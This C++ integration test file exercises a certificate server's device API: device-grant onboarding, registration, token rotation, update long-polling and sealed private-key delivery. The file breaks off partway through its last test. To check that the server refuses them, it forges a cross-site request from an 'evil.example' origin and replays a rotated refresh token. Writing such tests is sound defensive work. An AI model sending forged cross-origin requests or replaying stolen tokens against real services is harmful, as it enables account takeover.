// End to end: the agent's side of the API as agent contract 2.3-2.4, 5 and 6 describe it, played from scratch
// against the real binary and MariaDB: the device grant, registration with an X25519 key, device tokens and
// their rotation, the update feed with its long-poll, and sealed key delivery opened with libsodium and
// AES-256-GCM outside the server's own code.
#include "api_fixture.hpp"
#include "webhook_sink.hpp"

#include "certctrl/core/hex.hpp"
#include "certctrl/crypto/random.hpp"
#include "certctrl/crypto/x509.hpp"

#include <openssl/evp.h>
#include <sodium.h>

#include <signal.h>

#include <chrono>
#include <future>
#include <regex>
#include <thread>

namespace certctrl::test {
namespace {

namespace json = boost::json;

// An agent: its X25519 key pair, its public id and the tokens it holds.
struct agent {
    std::string pk;
    std::string sk;
    std::string public_id;
    std::int64_t device_id = 0;
    std::string access;
    std::string refresh;
};

agent new_agent(std::string public_id) {
    EXPECT_GE(sodium_init(), 0);
    agent a;
    a.pk.resize(crypto_box_PUBLICKEYBYTES);
    a.sk.resize(crypto_box_SECRETKEYBYTES);
    crypto_box_keypair(reinterpret_cast<unsigned char*>(a.pk.data()),
                       reinterpret_cast<unsigned char*>(a.sk.data()));
    a.public_id = std::move(public_id);
    return a;
}

// AES-256-GCM decryption straight from OpenSSL's EVP interface (no AAD, 12-byte nonce, 16-byte tag).
std::optional<std::string> gcm_open(std::string const& key, std::string const& nonce, std::string const& ct,
                                    std::string tag) {
    std::unique_ptr<EVP_CIPHER_CTX, decltype(&EVP_CIPHER_CTX_free)> c(EVP_CIPHER_CTX_new(),
                                                                      EVP_CIPHER_CTX_free);
    std::string out(ct.size(), '\0');
    int len = 0;
    int fin = 0;
    auto const* k = reinterpret_cast<unsigned char const*>(key.data());
    auto const* iv = reinterpret_cast<unsigned char const*>(nonce.data());
    if (EVP_DecryptInit_ex(c.get(), EVP_aes_256_gcm(), nullptr, nullptr, nullptr) != 1 ||
        EVP_CIPHER_CTX_ctrl(c.get(), EVP_CTRL_GCM_SET_IVLEN, static_cast<int>(nonce.size()), nullptr) != 1 ||
        EVP_DecryptInit_ex(c.get(), nullptr, nullptr, k, iv) != 1 ||
        EVP_DecryptUpdate(c.get(), reinterpret_cast<unsigned char*>(out.data()), &len,
                          reinterpret_cast<unsigned char const*>(ct.data()),
                          static_cast<int>(ct.size())) != 1 ||
        EVP_CIPHER_CTX_ctrl(c.get(), EVP_CTRL_GCM_SET_TAG, static_cast<int>(tag.size()), tag.data()) != 1 ||
        EVP_DecryptFinal_ex(c.get(), reinterpret_cast<unsigned char*>(out.data()) + len, &fin) != 1) {
        return std::nullopt;
    }
    return out;
}

std::string b64(json::value const& v, char const* field) {
    auto raw = base64_decode(std::string(v.at(field).as_string()));
    EXPECT_TRUE(raw) << field;
    return raw.value_or("");
}

std::string blake2b(std::string const& data) {
    std::string out(32, '\0');
    crypto_generichash(reinterpret_cast<unsigned char*>(out.data()), 32,
                       reinterpret_cast<unsigned char const*>(data.data()), data.size(), nullptr, 0);
    return out;
}

// Opens deploy-materials with the agent's key pair: the private key's DER, or nothing.
std::optional<std::string> open_materials(json::value const& dm, agent const& a) {
    std::string const sealed = b64(dm, "enc_data_key_b64");
    std::string data_key(32, '\0');
    if (sealed.size() != 80 ||
        crypto_box_seal_open(reinterpret_cast<unsigned char*>(data_key.data()),
                             reinterpret_cast<unsigned char const*>(sealed.data()), sealed.size(),
                             reinterpret_cast<unsigned char const*>(a.pk.data()),
                             reinterpret_cast<unsigned char const*>(a.sk.data())) != 0) {
        return std::nullopt;
    }
    return gcm_open(data_key, b64(dm, "privkey_nonce_b64"), b64(dm, "enc_privkey_b64"),
                    b64(dm, "privkey_tag_b64"));
}

std::vector<std::string> const scopes = {"acme_accounts:*[read,write]", "cas:*[read,write]",
                                         "certificates:*[read,write,issue]", "devices:*[read,write]"};

class Devices : public api_fixture {
  protected:
    void start_devices(unsigned kept = 1000, unsigned poll_hint = 0) {
        start(json::object{
            {"rate_limits", {{"auth_per_minute", 1000}, {"api_per_minute", 100000}}},
            {"devices", {{"updates_kept_per_device", kept}, {"poll_interval_hint_seconds", poll_hint}}}});
    }

    // The device grant approved by `session`, then registration: the agent's tokens and device id.
    // With `probe_pacing`, also polls too early (pending, then slow_down) and waits out the grown interval.
    void onboard(agent& a, headers const& session, std::int64_t uid, bool probe_pacing = false) {
        auto start = call(
            "POST", "/auth/device", headers{},
            R"({"action":"device_start","scopes":["openid","profile","email"],"interval":1,"expires_in":900})");
        ASSERT_EQ(start.status, 200) << start.body;
        json::value const g = start.json().at("data");
        std::string const user_code(g.at("user_code").as_string());
        std::string const device_code(g.at("device_code").as_string());
        EXPECT_TRUE(std::regex_match(user_code, std::regex("[A-Z0-9]{4}-[A-Z0-9]{4}"))) << user_code;
        EXPECT_FALSE(g.at("verification_uri").as_string().empty());
        EXPECT_NE(std::string(g.at("verification_uri_complete").as_string()).find(user_code),
                  std::string::npos);
        EXPECT_GT(g.at("interval").as_int64(), 0);
        EXPECT_GT(g.at("expires_in").as_int64(), 0);

        std::string const poll_body = R"({"action":"device_poll","device_code":")" + device_code + R"("})";
        if (probe_pacing) {
            auto pending = call("POST", "/auth/device", headers{}, poll_body);
            ASSERT_EQ(pending.status, 200) << pending.body;
            EXPECT_EQ(pending.json().at("data").at("status"), "authorization_pending");
            auto fast = call("POST", "/auth/device", headers{}, poll_body);  // sooner than the 1 s interval
            EXPECT_EQ(fast.json().at("data").at("status"), "slow_down") << fast.body;
            EXPECT_EQ(fast.json().at("data").at("interval").as_int64(), 6);
        }

        auto verify = call("POST", "/auth/device", headers{},
                           R"({"action":"device_verify","user_code":")" + user_code + R"(","approve":true})");
        EXPECT_EQ(verify.status, 401) << "approving needs a session";
        headers cross_site = session;
        cross_site["Origin"] = "https://evil.example";
        verify = call("POST", "/auth/device", cross_site,
                      R"({"action":"device_verify","user_code":")" + user_code + R"(","approve":true})");
        EXPECT_EQ(verify.status, 403) << "a session write from another origin";
        verify = call("POST", "/auth/device", session,
                      R"({"action":"device_verify","user_code":")" + user_code + R"(","approve":true})");
        ASSERT_EQ(verify.status, 200) << verify.body;
        EXPECT_EQ(verify.json().at("data").at("status"), "approved");

        if (probe_pacing) {
            std::this_thread::sleep_for(std::chrono::milliseconds(6100));  // the interval grew by 5 s
        }
        auto ready = call("POST", "/auth/device", headers{}, poll_body);
        ASSERT_EQ(ready.status, 200) << ready.body;
        json::value const rd = ready.json().at("data");
        ASSERT_EQ(rd.at("status"), "ready") << ready.body;
        EXPECT_EQ(rd.at("user_id").as_int64(), uid);
        std::string const code(rd.at("registration_code").as_string());
        auto again = call("POST", "/auth/device", headers{}, poll_body);
        EXPECT_EQ(again.json().at("data").at("status"), "expired")
            << "the grant is single use: " << again.body;

        register_with_code(a, uid, code, 201);
    }

    // A registration code from a grant `session` approved at once (naming `again`, an existing device it may
    // register again, when given).
    std::string approved_code(headers const& session, std::optional<std::string> again = std::nullopt) {
        auto start = call("POST", "/auth/device", headers{},
                          R"({"action":"device_start","scopes":["openid"],"interval":1,"expires_in":900})");
        EXPECT_EQ(start.status, 200) << start.body;
        json::value const g = start.json().at("data");
        json::object verify{{"action", "device_verify"}, {"user_code", g.at("user_code")}, {"approve", true}};
        if (again) {
            verify["device_public_id"] = *again;
        }
        auto v = call("POST", "/auth/device", session, json::serialize(verify));
        EXPECT_EQ(v.status, 200) << v.body;
        auto ready = call("POST", "/auth/device", headers{},
                          R"({"action":"device_poll","device_code":")" +
                              std::string(g.at("device_code").as_string()) + R"("})");
        EXPECT_EQ(ready.json().at("data").at("status"), "ready") << ready.body;
        return std::string(ready.json().at("data").at("registration_code").as_string());
    }

    json::object registration_body(agent const& a) {
        return json::object{{"device_public_id", a.public_id},
                            {"platform", "linux"},
                            {"model", "x86_64"},
                            {"app_version", "1.2.3"},
                            {"name", "web-1"},
                            {"ip", "unknown"},
                            {"user_agent", "cert-ctrl/1.2.3"},
                            {"dev_pk", base64_encode(a.pk)}};
    }

    void take_tokens(agent& a, json::value const& data) {
        a.access = std::string(data.at("session").at("access_token").as_string());
        a.refresh = std::string(data.at("session").at("refresh_token").as_string());
        EXPECT_EQ(data.at("session").at("token_type"), "Bearer");
        EXPECT_EQ(data.at("access_token"), data.at("session").at("access_token"));
        a.device_id = data.at("device").at("id").as_int64();
    }

    void register_with_code(agent& a, std::int64_t uid, std::string const& code, int expect) {
        auto body = registration_body(a);
        body["user_id"] = uid;
        body["registration_code"] = code;
        auto r = call("POST", "/apiv1/device/registration", headers{}, json::serialize(body));
        ASSERT_EQ(r.status, expect) << r.body;
        take_tokens(a, r.json().at("data"));
    }

    // A SELF_CA certificate of the key's user with `policy`: its id.
    std::int64_t self_ca_cert(std::string const& key, std::string const& policy, std::string const& domain,
                              std::string const& extra = "") {
        auto const acct = self_ca_account(key, "Device root");
        auto c = call("POST", "/apiv1/me/certificates", key,
                      R"({"domain_name":")" + domain + R"(","sans":[")" + domain + R"("],"acct_id":)" +
                          std::to_string(acct) + R"(,"policy":")" + policy + R"(")" + extra + "}");
        EXPECT_EQ(c.status, 200) << c.body;
        return id_of(c);
    }

    // The feed after `cursor`: {status, cursor, signals}.
    struct feed {
        int status = 0;
        std::string etag;
        std::string poll_interval;  // X-Poll-Interval, when the server sends one
        std::string cursor;
        json::array signals;
        json::value body;
    };
    feed updates(agent const& a, std::string const& cursor, std::string const& query = "") {
        headers h = bearer(a.access);
        if (!cursor.empty()) {
            h["If-None-Match"] = "\"" + cursor + "\"";
        }
        auto r = call("GET", "/apiv1/devices/self/updates" + query, h);
        feed f;
        f.status = r.status;
        f.etag = r.header("etag");
        f.poll_interval = r.header("x-poll-interval");
        if (r.status == 200) {
            f.body = r.json();
            f.cursor = std::string(f.body.at("data").at("cursor").as_string());
            f.signals = f.body.at("data").at("signals").as_array();
        } else if (!r.body.empty()) {
            f.body = r.json();
        }
        return f;
    }

    static std::vector<std::string> types_of(json::array const& signals) {
        std::vector<std::string> out;
        for (auto const& s : signals) {
            out.emplace_back(s.at("type").as_string());
            EXPECT_TRUE(s.at("ts_ms").is_int64());
        }
        return out;
    }
};

TEST_F(Devices, AgentFromScratchReceivesAKeyThatMatchesItsCertificate) {
    start_devices();
    auto uid = add_user("agent@example.com");
    auto session = login("agent@example.com");
    auto key = key_for("agent@example.com", scopes);
    agent a = new_agent("7b0c2f7e-3f43-4c55-9c1e-2a8f5b1d9e01");
    ASSERT_NO_FATAL_FAILURE(onboard(a, session, uid, true));

    // The device JWT: HS256 with sub as a string and device_id as an integer.
    auto dot1 = a.access.find('.');
    auto dot2 = a.access.find('.', dot1 + 1);
    std::string seg = a.access.substr(dot1 + 1, dot2 - dot1 - 1);
    for (auto& ch : seg) {
        ch = ch == '-' ? '+' : ch == '_' ? '/' : ch;
    }
    while (seg.size() % 4)
        seg.push_back('=');
    auto claims = json::parse(*base64_decode(seg));
    EXPECT_EQ(claims.at("sub"), json::value(std::to_string(uid)));
    EXPECT_EQ(claims.at("device_id").as_int64(), a.device_id);
    EXPECT_GT(claims.at("exp").as_int64(), std::time(nullptr));
    auto header =
        json::parse(*base64_decode(a.access.substr(0, dot1) + std::string((4 - dot1 % 4) % 4, '=')));
    EXPECT_EQ(header.at("alg"), "HS256");

    EXPECT_EQ(
        call(
            "POST", "/apiv1/devices/self/notify", a.access,
            R"({"schema":"certctrl.device.notify.v1","events":[{"type":"agent_version","agent":"cert-ctrl","version":"1.2.3"},{"type":"future"}]})")
            .status,
        204);
    EXPECT_EQ(call("POST", "/apiv1/devices/self/notify", a.access, R"({"events":"no"})").status, 400);
    auto dev = call("GET", "/apiv1/me/devices/" + std::to_string(a.device_id), key);
    EXPECT_EQ(dev.json().at("data").at("agent_version"), "1.2.3") << dev.body;
    EXPECT_EQ(dev.json().at("data").at("has_public_key"), true);

    // Assigned before it is issued: cert.updated and an install item, but nothing to deliver yet.
    auto cert = self_ca_cert(key, "HYBRID", "agent.example.com");
    auto const c = std::to_string(cert);
    auto assigned = call("POST", "/apiv1/me/devices/" + std::to_string(a.device_id) + "/certificates", key,
                         R"({"cert_id":)" + c + "}");
    ASSERT_EQ(assigned.status, 200) << assigned.body;
    auto f1 = updates(a, "");
    ASSERT_EQ(f1.status, 200) << f1.body;
    EXPECT_EQ(types_of(f1.signals), (std::vector<std::string>{"cert.updated", "install.updated"}));
    EXPECT_EQ(f1.signals[0].at("ref").at("cert_id").as_int64(), cert);
    EXPECT_EQ(f1.etag, "\"" + f1.cursor + "\"");
    EXPECT_EQ(f1.poll_interval, "") << "no X-Poll-Interval unless configured";
    auto cfg = call("GET", "/apiv1/devices/self/install-config", a.access);
    ASSERT_EQ(cfg.status, 200) << cfg.body;
    auto item = cfg.json().at("data").at("installs").at(0);
    EXPECT_EQ(item.at("ob_type"), "cert");
    EXPECT_EQ(item.at("ob_id").as_int64(), cert);
    EXPECT_EQ(item.at("type"), "copy");
    auto not_issued = call("GET", "/apiv1/devices/self/certificates/" + c + "/deploy-materials", a.access);
    EXPECT_EQ(not_issued.status, 409) << not_issued.body;
    EXPECT_NE(not_issued.body.find("NOT_ISSUED"), std::string::npos);

    // Issued: the feed says cert.updated with the wrap ready, for this device's key.
    auto issued = call("POST", "/apiv1/me/certificates/" + c + "/issues", key, "{}");
    ASSERT_EQ(issued.status, 200) << issued.body;
    EXPECT_EQ(issued.json().at("data").at("status"), "SUCCESS");
    auto f2 = updates(a, f1.cursor);
    ASSERT_EQ(f2.status, 200) << f2.body;
    ASSERT_EQ(types_of(f2.signals), std::vector<std::string>{"cert.updated"});
    auto ref = f2.signals[0].at("ref");
    EXPECT_EQ(ref.at("wrap_ready"), true);
    EXPECT_EQ(ref.at("wrap_alg"), "x25519");
    EXPECT_EQ(b64(ref, "device_keyfp_b64"), blake2b(a.pk));

    // The certificate (detail, leaf first) and the key (deploy-materials), opened outside the server's code.
    auto detail = call("GET", "/apiv1/devices/self/certificates/" + c, a.access);
    ASSERT_EQ(detail.status, 200) << detail.body;
    std::string const chain(detail.json().at("data").at("cert").as_string());
    std::string const leaf(detail.json().at("data").at("certificate_pem").as_string());
    EXPECT_EQ(chain.rfind(leaf, 0), 0u) << "leaf first";
    auto m = call("GET", "/apiv1/devices/self/certificates/" + c + "/deploy-materials", a.access);
    ASSERT_EQ(m.status, 200) << m.body;
    json::value const dm = m.json().at("data");
    EXPECT_EQ(dm.at("enc_scheme"), "aes256gcm");
    EXPECT_EQ(dm.at("wrap_alg"), "x25519");
    EXPECT_EQ(b64(dm, "device_keyfp_b64"), blake2b(a.pk));
    EXPECT_EQ(b64(dm, "enc_data_key_b64").size(), 80u);
    EXPECT_EQ(b64(dm, "privkey_nonce_b64").size(), 12u);
    EXPECT_EQ(b64(dm, "privkey_tag_b64").size(), 16u);
    auto der = open_materials(dm, a);
    ASSERT_TRUE(der) << "the private key opens with the sealed data key";
    EXPECT_TRUE(crypto::key_matches_certificate(crypto::private_key_pem_from_der(*der), leaf));

    // Someone else's key pair cannot open the sealed data key.
    agent stranger = new_agent("00000000-0000-4000-8000-000000000000");
    EXPECT_FALSE(open_materials(dm, stranger));

    // Unassigning drops it from the device: cert.unassigned, then 404.
    EXPECT_EQ(
        call("DELETE", "/apiv1/me/devices/" + std::to_string(a.device_id) + "/certificates/" + c, key).status,
        204);
    auto f3 = updates(a, f2.cursor);
    EXPECT_EQ(types_of(f3.signals), std::vector<std::string>{"cert.unassigned"});
    EXPECT_EQ(call("GET", "/apiv1/devices/self/certificates/" + c, a.access).status, 404);
}

TEST_F(Devices, DeviceRequiredKeepsNoMasterCopyAndReissuesForANewDevice) {
    start_devices();
    auto uid = add_user("strict@example.com");
    auto session = login("strict@example.com");
    auto key = key_for("strict@example.com", scopes);
    agent a = new_agent("c0ffee00-1234-4567-89ab-cdef01234567");
    ASSERT_NO_FATAL_FAILURE(onboard(a, session, uid));
    auto cert = self_ca_cert(key, "DEVICE_REQUIRED", "strict.example.com");
    auto const c = std::to_string(cert);
    auto issued = call("POST", "/apiv1/me/certificates/" + c + "/issues", key, "{}");
    ASSERT_EQ(issued.json().at("data").at("status"), "SUCCESS") << issued.body;
    EXPECT_EQ(schema_->query_int("SELECT COUNT(*) FROM certificate_master_wrapped WHERE cert_id = " + c), 0)
        << "the server keeps no copy it could open";
    std::string const first_serial(
        call("GET", "/apiv1/me/certificates/" + c, key).json().at("data").at("serial_number").as_string());

    // Nothing can be sealed for a new device: the wrap is pending and a re-issue is queued (agent
    // contract 5.2).
    auto assigned = call("POST", "/apiv1/me/devices/" + std::to_string(a.device_id) + "/certificates", key,
                         R"({"cert_id":)" + c + "}");
    ASSERT_EQ(assigned.status, 202) << assigned.body;
    EXPECT_EQ(assigned.json().at("data").at("wrap_status"), "pending");
    auto pending = call("GET", "/apiv1/devices/self/certificates/" + c + "/deploy-materials", a.access);
    EXPECT_EQ(pending.status, 409);
    EXPECT_NE(pending.body.find("WRAP_PENDING"), std::string::npos) << pending.body;

    // A worker re-issues; the new key is sealed to the device and the feed says so.
    std::string cursor;
    bool ready = false;
    bool wrap_ready_signal = false;  // the contract's optional cert.wrap_ready, after the pending wrap
    for (auto until = std::chrono::steady_clock::now() + std::chrono::seconds(30);
         !(ready && wrap_ready_signal) && std::chrono::steady_clock::now() < until;) {
        auto f = updates(a, cursor, "?wait=5");
        ASSERT_TRUE(f.status == 200 || f.status == 204) << f.status;
        if (f.status == 200) {
            cursor = f.cursor;
            for (auto const& s : f.signals) {
                auto const& ref = s.at("ref").as_object();
                ready = ready || (s.at("type") == "cert.updated" && ref.contains("wrap_ready"));
                wrap_ready_signal = wrap_ready_signal || (s.at("type") == "cert.wrap_ready" &&
                                                          ref.at("cert_id").as_int64() == cert);
            }
        }
    }
    ASSERT_TRUE(ready) << "no cert.updated with wrap_ready within 30 s";
    EXPECT_TRUE(wrap_ready_signal) << "no cert.wrap_ready after the pending wrap";
    auto m = call("GET", "/apiv1/devices/self/certificates/" + c + "/deploy-materials", a.access);
    ASSERT_EQ(m.status, 200) << m.body;
    auto der = open_materials(m.json().at("data"), a);
    ASSERT_TRUE(der);
    auto detail = call("GET", "/apiv1/devices/self/certificates/" + c, a.access);
    std::string const leaf(detail.json().at("data").at("certificate_pem").as_string());
    EXPECT_TRUE(crypto::key_matches_certificate(crypto::private_key_pem_from_der(*der), leaf));
    EXPECT_NE(std::string(detail.json().at("data").at("serial_number").as_string()), first_serial)
        << "a new key";
    EXPECT_EQ(schema_->query_int("SELECT COUNT(*) FROM certificate_master_wrapped WHERE cert_id = " + c), 0);
    EXPECT_EQ(call("GET", "/apiv1/me/certificates/" + c + "/export", key).status, 403);
}

TEST_F(Devices, MasterOnlyDeliversPlaintextOnlyWhenExportIsAllowed) {
    start_devices();
    auto uid = add_user("master@example.com");
    auto session = login("master@example.com");
    auto key = key_for("master@example.com", scopes);
    agent a = new_agent("d00dfeed-1234-4567-89ab-cdef01234567");
    ASSERT_NO_FATAL_FAILURE(onboard(a, session, uid));
    auto closed = std::to_string(self_ca_cert(key, "MASTER_ONLY", "closed.example.com"));
    auto open = std::to_string(
        self_ca_cert(key, "master_only", "open.example.com", R"(,"server_decrypt_export":true)"));
    for (auto const& c : {closed, open}) {
        ASSERT_EQ(call("POST", "/apiv1/me/certificates/" + c + "/issues", key, "{}").status, 200);
        ASSERT_EQ(call("POST", "/apiv1/me/devices/" + std::to_string(a.device_id) + "/certificates", key,
                       R"({"cert_id":)" + c + "}")
                      .status,
                  200);
    }
    auto forbidden =
        call("GET", "/apiv1/devices/self/certificates/" + closed + "/deploy-materials", a.access);
    EXPECT_EQ(forbidden.status, 403);
    EXPECT_NE(forbidden.body.find("EXPORT_FORBIDDEN"), std::string::npos) << forbidden.body;
    auto plain = call("GET", "/apiv1/devices/self/certificates/" + open + "/deploy-materials", a.access);
    ASSERT_EQ(plain.status, 200) << plain.body;
    json::value const dm = plain.json().at("data");
    EXPECT_EQ(dm.at("enc_scheme"), "plaintext");
    std::string const leaf(dm.at("certificate_pem").as_string());
    EXPECT_TRUE(crypto::key_matches_certificate(
        crypto::private_key_pem_from_der(b64(dm, "private_key_der_b64")), leaf));
    auto bundle = call("GET",
                       "/apiv1/users/" + std::to_string(uid) + "/devices/" + std::to_string(a.device_id) +
                           "/certificates/" + open + "/bundle?pack=download",
                       session);
    ASSERT_EQ(bundle.status, 200) << bundle.body;
    EXPECT_NE(bundle.header("content-disposition").find("cert_" + open + "_plaintext.json"),
              std::string::npos);
    EXPECT_EQ(call("GET",
                   "/apiv1/me/devices/" + std::to_string(a.device_id) + "/certificates/" + open +
                       "/bundle?pack=zip",
                   key)
                  .status,
              400);
    auto devices_only = key_for("master@example.com", {"devices:*[read]"});
    auto no_export =
        call("GET", "/apiv1/me/devices/" + std::to_string(a.device_id) + "/certificates/" + open + "/bundle",
             devices_only);
    EXPECT_EQ(no_export.status, 403) << "a plaintext key needs the certificate's read scope: "
                                     << no_export.body;
    // Each release above is in the owner's audit log: the device's plaintext fetch and the session's bundle.
    auto const released = [&](char const* how, char const* via) {
        return schema_->query_int(
            "SELECT COUNT(*) FROM audit_log WHERE action = 'key.release' AND user_id = " +
            std::to_string(uid) + " AND JSON_VALUE(detail, '$.how') = '" + how +
            "' AND JSON_VALUE(detail, '$.via') = '" + via +
            "' AND JSON_VALUE(detail, '$.cert_id') = " + open);
    };
    EXPECT_EQ(released("deploy_materials", "device"), 1);
    EXPECT_EQ(released("plaintext_bundle", "session"), 1);
    // Deleting a certificate tells the devices holding it, in the same transaction.
    auto before = updates(a, "", "?limit=100");
    ASSERT_EQ(before.status, 200);
    ASSERT_EQ(call("DELETE", "/apiv1/me/certificates/" + closed, key).status, 204);
    auto gone = updates(a, before.cursor);
    ASSERT_EQ(gone.status, 200) << gone.body;
    EXPECT_EQ(types_of(gone.signals), std::vector<std::string>{"cert.unassigned"});
    EXPECT_EQ(std::to_string(gone.signals[0].at("ref").at("cert_id").as_int64()), closed);
}

TEST_F(Devices, IdleFeedIs204WithETagAndALongPollWakesWithinASecond) {
    start_devices(1000, 15);
    auto uid = add_user("poll@example.com");
    auto session = login("poll@example.com");
    auto key = key_for("poll@example.com", {"devices:*[read,write,exec]"});
    agent a = new_agent("3c1f8a44-1d7e-4e0b-8f51-6a2b9c0d7e11");
    ASSERT_NO_FATAL_FAILURE(onboard(a, session, uid));
    auto idle = updates(a, "");
    EXPECT_EQ(idle.status, 204);
    EXPECT_EQ(idle.poll_interval, "15") << "devices.poll_interval_hint_seconds";
    EXPECT_EQ(idle.etag, "\"1\"") << "the device's own mark: nothing yet";
    auto idle2 = updates(a, "", "?cursor=0-0&limit=5");
    EXPECT_EQ(idle2.status, 204);

    auto put = [&](std::string const& cmd) {
        return call(
            "PUT", "/apiv1/me/devices/" + std::to_string(a.device_id) + "/install-config", key,
            R"({"installs":[{"id":"reload","type":"exec","cmd":")" + cmd + R"("}],"change_note":"n"})");
    };
    ASSERT_EQ(put("true").status, 200);
    auto first = updates(a, "");
    ASSERT_EQ(first.status, 200) << first.body;
    EXPECT_EQ(types_of(first.signals), std::vector<std::string>{"install.updated"});
    auto quiet = updates(a, first.cursor);
    EXPECT_EQ(quiet.status, 204);
    EXPECT_EQ(quiet.etag, "\"" + first.cursor + "\"");

    // A long-poll holds until the next signal, which arrives ~1.5 s later.
    auto t0 = std::chrono::steady_clock::now();
    auto waiting = std::async(std::launch::async, [&] { return updates(a, first.cursor, "?wait=20"); });
    std::this_thread::sleep_for(std::chrono::milliseconds(1500));
    auto changed_at = std::chrono::steady_clock::now();
    ASSERT_EQ(put("systemctl reload nginx").status, 200);
    auto woke = waiting.get();
    auto done = std::chrono::steady_clock::now();
    ASSERT_EQ(woke.status, 200) << woke.body;
    EXPECT_EQ(types_of(woke.signals), std::vector<std::string>{"install.updated"});
    EXPECT_EQ(woke.signals[0].at("ref").at("version").as_int64(), 2);
    EXPECT_GE(done - t0, std::chrono::milliseconds(1400)) << "it waited for the change";
    EXPECT_LT(done - changed_at, std::chrono::milliseconds(1000)) << "woke within a second of the change";
    auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(done - changed_at).count();
    std::cout << "long-poll woke " << ms << " ms after the change" << std::endl;

    // A long-poll with nothing new ends at its deadline with 204.
    auto t1 = std::chrono::steady_clock::now();
    auto timeout = updates(a, woke.cursor, "?wait=1");
    EXPECT_EQ(timeout.status, 204);
    EXPECT_GE(std::chrono::steady_clock::now() - t1, std::chrono::milliseconds(900));
    EXPECT_EQ(updates(a, woke.cursor, "?wait=31").status, 400);
    EXPECT_EQ(updates(a, woke.cursor, "?limit=0").status, 400);
}

TEST_F(Devices, RefreshRotatesAndReusingARotatedTokenRevokesTheSession) {
    start_devices();
    auto uid = add_user("refresh@example.com");
    auto session = login("refresh@example.com");
    agent a = new_agent("5d2e9b17-8c44-4a3e-9b6f-0c1d2e3f4a5b");
    ASSERT_NO_FATAL_FAILURE(onboard(a, session, uid));
    // A registration retry with the fresh refresh token instead of the (used) code keeps the row.
    auto retry_body = registration_body(a);
    retry_body["user_id"] = uid;
    retry_body["refresh_token"] = a.refresh;
    auto retry = call("POST", "/apiv1/device/registration", headers{}, json::serialize(retry_body));
    ASSERT_EQ(retry.status, 200) << retry.body;
    std::int64_t const device_id = a.device_id;
    take_tokens(a, retry.json().at("data"));
    EXPECT_EQ(a.device_id, device_id);
    std::string const first = a.refresh;
    auto r = call("POST", "/auth/refresh", headers{}, R"({"refresh_token":")" + first + R"("})");
    ASSERT_EQ(r.status, 200) << r.body;
    json::value const d = r.json().at("data");
    EXPECT_EQ(d.at("refresh_token"), d.at("session").at("refresh_token"));
    EXPECT_EQ(d.at("access_token"), d.at("session").at("access_token"));
    std::string const second(d.at("refresh_token").as_string());
    std::string const access(d.at("access_token").as_string());
    EXPECT_NE(second, first);
    a.access = access;
    EXPECT_EQ(updates(a, "").status, 204);

    auto reuse = call("POST", "/auth/refresh", headers{}, R"({"refresh_token":")" + first + R"("})");
    EXPECT_EQ(reuse.status, 401) << reuse.body;
    EXPECT_EQ(code_of(reuse), 10003);
    // The whole family is revoked: the newest refresh token and the access token die with it.
    auto after = call("POST", "/auth/refresh", headers{}, R"({"refresh_token":")" + second + R"("})");
    EXPECT_EQ(after.status, 401);
    EXPECT_EQ(code_of(after), 10003);
    EXPECT_EQ(updates(a, "").status, 401);
    EXPECT_EQ(call("POST", "/auth/refresh", headers{}, R"({"refresh_token":"rt_nope"})").status, 401);
    EXPECT_EQ(call("POST", "/auth/refresh", headers{}, R"({})").status, 400);
}

TEST_F(Devices, ACursorOlderThanTheKeptSignalsMustResync) {
    start_devices(2);
    auto uid = add_user("resync@example.com");
    auto session = login("resync@example.com");
    auto key = key_for("resync@example.com", scopes);
    agent a = new_agent("9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d");
    ASSERT_NO_FATAL_FAILURE(onboard(a, session, uid));
    auto put = [&] {
        return call("PUT", "/apiv1/me/devices/" + std::to_string(a.device_id) + "/install-config", key,
                    R"({"installs":[]})")
            .status;
    };
    ASSERT_EQ(put(), 200);
    auto first = updates(a, "");
    ASSERT_EQ(first.status, 200);
    for (int i = 0; i < 3; ++i)
        ASSERT_EQ(put(), 200);
    auto stale = updates(a, first.cursor);
    ASSERT_EQ(stale.status, 409) << stale.body;
    auto err = stale.body.at("error");
    EXPECT_EQ(err.at("code").as_int64(), 40901);
    EXPECT_EQ(err.at("params").at("action"), "full_resync");
    EXPECT_EQ(err.at("params").at("reset_cursor"), true);
    EXPECT_TRUE(err.at("params").as_object().contains("earliest_retained_id"));
    auto fresh = updates(a, "");  // after the reset: what is kept
    ASSERT_EQ(fresh.status, 200);
    EXPECT_EQ(fresh.signals.size(), 2u);
    EXPECT_EQ(updates(a, "not-a-cursor").status, 409);
    EXPECT_EQ(updates(a, "999999999").status, 409) << "a cursor this device was never given";
}

TEST_F(Devices, ApiKeyRegistrationOtherDevicesRevocationAndReRegistration) {
    start_devices();
    auto uid = add_user("fleet@example.com");
    auto session = login("fleet@example.com");
    auto key = key_for("fleet@example.com", scopes);
    auto reg_key = key_for("fleet@example.com", {"ForDeviceAuthenticate:*[authenticate]"});
    auto weak_key = key_for("fleet@example.com", {"certificates:*[read]"});
    agent a = new_agent("11111111-2222-4333-8444-555555555555");
    ASSERT_NO_FATAL_FAILURE(onboard(a, session, uid));
    agent b = new_agent("66666666-7777-4888-9999-aaaaaaaaaaaa");
    auto body = json::serialize(registration_body(b));
    EXPECT_EQ(call("POST", "/apiv1/me/devices", weak_key, body).status, 403);
    auto rb = call("POST", "/apiv1/me/devices", reg_key, body);
    ASSERT_EQ(rb.status, 201) << rb.body;
    take_tokens(b, rb.json().at("data"));
    // The provisioning key only creates devices: registering b again needs proof tied to b, here its own
    // refresh token (the agent's retry), and then it keeps its row.
    auto rb2 = call("POST", "/apiv1/users/" + std::to_string(uid) + "/devices", reg_key, body);
    EXPECT_EQ(rb2.status, 409) << rb2.body;
    auto with_refresh = registration_body(b);
    with_refresh["refresh_token"] = b.refresh;
    rb2 = call("POST", "/apiv1/me/devices", reg_key, json::serialize(with_refresh));
    ASSERT_EQ(rb2.status, 200) << rb2.body;
    EXPECT_EQ(rb2.json().at("data").at("device").at("id").as_int64(), b.device_id) << "same row";
    take_tokens(b, rb2.json().at("data"));

    auto cert = self_ca_cert(key, "HYBRID", "fleet.example.com");
    auto const c = std::to_string(cert);
    ASSERT_EQ(call("POST", "/apiv1/me/certificates/" + c + "/issues", key, "{}").status, 200);
    auto assigned = call("POST", "/apiv1/me/devices/" + std::to_string(a.device_id) + "/certificates", key,
                         R"({"cert_id":)" + c + "}");
    ASSERT_EQ(assigned.status, 200) << assigned.body;
    EXPECT_EQ(assigned.json().at("data").at("wrap_status"), "ready") << "sealed at once from the master copy";

    // Device b holds no such assignment.
    EXPECT_EQ(call("GET", "/apiv1/devices/self/certificates/" + c, b.access).status, 404);
